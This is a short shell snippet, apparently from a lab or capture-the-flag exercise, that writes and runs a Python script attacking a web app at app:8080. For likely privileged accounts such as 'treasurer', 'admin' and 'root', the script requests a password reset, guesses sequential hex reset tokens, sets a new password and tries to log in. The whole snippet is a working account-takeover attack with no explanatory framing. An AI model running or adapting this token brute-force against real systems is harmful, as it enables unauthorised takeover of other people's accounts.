#-- likely names of the treasurer, and tokens one after the other
cat > /tmp/guess.py <<'PY'
import urllib.error, urllib.parse, urllib.request
def post(path, **fields):
    try:
        return urllib.request.urlopen("http://app:8080" + path, urllib.parse.urlencode(fields).encode()).status
    except urllib.error.HTTPError as error:
        return error.code
for name in ("treasurer", "admin", "root", "treasurer-1000"):
    post("/forgot", name=name)
    for number in range(20):
        post("/reset", name=name, token=f"{number:08x}", password="a new password")
        post("/login", name=name, password="a new password")
PY
python3 /tmp/guess.py
echo none
